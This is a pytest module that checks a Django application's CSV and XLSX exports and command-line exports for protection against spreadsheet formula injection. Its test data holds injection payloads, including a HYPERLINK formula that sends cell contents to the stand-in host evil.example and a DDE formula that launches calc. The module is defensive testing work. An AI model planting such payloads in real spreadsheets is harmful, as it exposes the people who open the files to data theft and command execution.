"""No text in a CSV or XLSX that Serai writes becomes a spreadsheet formula (issue 13, defect 2).

Every export goes through ``serai.core.downloads.table_response`` (web) or ``serai.core.cells``
(the trade command line): text starting with = + - @ tab or CR gets a leading quote; numbers
stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from serai.core import downloads
from serai.core.i18n import TranslatedText
from serai.core.testing import body as body_of
from serai.projects.tests.conftest import energy, make_project, roles, walk  # noqa: F401 (fixtures)
from serai.trade.cells import FORMULA_STARTS, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?(E[+-]?\d+)?", re.I)  # a number written by the CSV writer


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _xlsx_cells(body: bytes) -> list:
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_csv_inert(body: bytes, *expected: str) -> None:
    cells = [c for row in _csv_cells(body) for c in row]
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert not live, f"formula cells in the CSV: {live!r}"
    for text in expected:
        assert "'" + text in cells, f"{text!r} is not in the CSV as quoted text"


def assert_xlsx_inert(body: bytes, *expected: str) -> None:
    cells = _xlsx_cells(body)
    live = [
        (c.coordinate, c.value, c.data_type)
        for c in cells
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))
    ]
    assert not live, f"formula cells in the XLSX: {live!r}"
    values = {c.value: c.data_type for c in cells}
    for text in expected:
        assert values.get("'" + text) == "s", f"{text!r} is not in the XLSX as quoted text"


# --- the one place --------------------------------------------------------------------------------
def test_safe_cell_quotes_formula_text_and_keeps_numbers():
    for text in PAYLOADS:
        assert safe_cell(text) == "'" + text
    for value in (-2, -2.5, Decimal("-3.25"), 0, True, None, dt.date(2026, 1, 2)):
        assert safe_cell(value) == value
    assert safe_cell("Plain title") == "Plain title" and safe_cell("Кооперация 협력") == "Кооперация 협력"
    assert safe_cell("a=1") == "a=1"


@pytest.mark.parametrize("fmt", downloads.FORMATS)
def test_table_response_neutralises_every_text_cell_in_both_formats(fmt):
    rows = [[p, -2, 1.5, Decimal("-7.5")] for p in PAYLOADS]
    content = body_of(downloads.table_response(fmt, "x", ["=title", "n", "f", "d"], rows, note="=NOTE()"))
    if fmt == "csv":
        assert_csv_inert(content, *PAYLOADS, "=title")
        cells = _csv_cells(content)
        assert cells[0] == ["# =NOTE()"] and cells[2][1:] == ["-2", "1.5", "-7.5"]
        return
    assert_xlsx_inert(content, *PAYLOADS, "=title", "=NOTE()")
    sheet = load_workbook(io.BytesIO(content)).active
    numbers = [c for c in next(sheet.iter_rows(min_row=3, max_row=3))][1:]
    assert [(c.value, c.data_type) for c in numbers] == [(-2, "n"), (1.5, "n"), (-7.5, "n")]


# --- every export endpoint --------------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize("fmt", downloads.FORMATS)
def test_project_export(client, roles, make_project, fmt):  # noqa: F811
    titles = ['=HYPERLINK("http://evil.example","x")', "+1", "-2+3", "@SUM(A1)"]
    for title in titles:
        make_project(title=TranslatedText({"en": title}, source="en"))
    client.force_login(roles["secretariat"])
    response = client.get(f"/en/projects/export.{fmt}")
    assert response.status_code == 200
    (assert_csv_inert if fmt == "csv" else assert_xlsx_inert)(body_of(response), *titles)


@pytest.mark.django_db
def test_action_tracker_export(client, roles, reference):  # noqa: F811
    from serai.governance import operations
    from serai.governance.models import Meeting

    session = Meeting.objects.filter(body__kind="forum", status="held").first()
    titles = ["=1+1", "@SUM(A1)", "-2+3"]
    for title in titles:
        operations.add_action(
            roles["secretariat"], session, TranslatedText({"en": title}, source="en"), owner=reference["states"]["UZ"]
        )
    client.force_login(roles["secretariat"])
    response = client.get("/en/actions/?format=xlsx")
    assert response.status_code == 200
    assert_xlsx_inert(body_of(response), *titles)


@pytest.mark.django_db
def test_dashboard_csv(client, roles, make_project, energy):  # noqa: F811
    energy.name = TranslatedText({"en": '=HYPERLINK("http://evil.example")'}, source="en")
    energy.save(update_fields=["name"])
    make_project()
    client.force_login(roles["secretariat"])
    response = client.get("/en/dashboard/field.csv")
    assert response.status_code == 200
    assert_csv_inert(body_of(response), '=HYPERLINK("http://evil.example")')


@pytest.fixture
def formula_store(settings, tmp_path, reference):
    from serai.trade import ingest
    from serai.trade.store import TradeStore
    from serai.trade.tests.conftest import WORLD, write_year

    write_year(tmp_path / "baci", 2020, WORLD)
    store = TradeStore(tmp_path / "store")
    ingest.load(tmp_path / "baci", store, dataset='=HYPERLINK("x")')
    settings.SERAI_TRADE_DIR = store.root
    return store


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", downloads.FORMATS)
def test_trade_opportunities_export(client, formula_store, fmt):
    response = client.get(f"/en/trade/UZB/opportunities.{fmt}?year=2020&direction=in")
    assert response.status_code == 200
    content = body_of(response)
    if fmt == "csv":  # the note is a comment line ("# …") in a CSV
        assert_csv_inert(content)
    else:
        assert_xlsx_inert(content)
        assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in _xlsx_cells(content))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_trade_command_line_exports(tmp_path, capsys, fmt):
    from serai.trade import cli
    from serai.trade.tests.conftest import WORLD, write_year

    write_year(tmp_path / "baci", 2020, WORLD)
    store = str(tmp_path / "store")
    assert cli.main(["--store", store, "load", str(tmp_path / "baci"), "--dataset", "@SUM(A1)"]) == 0
    capsys.readouterr()
    out = tmp_path / f"status.{fmt}"
    assert cli.main(["--store", store, "status", "--format", fmt, "--output", str(out)]) == 0
    (assert_csv_inert if fmt == "csv" else assert_xlsx_inert)(out.read_bytes(), "@SUM(A1)")
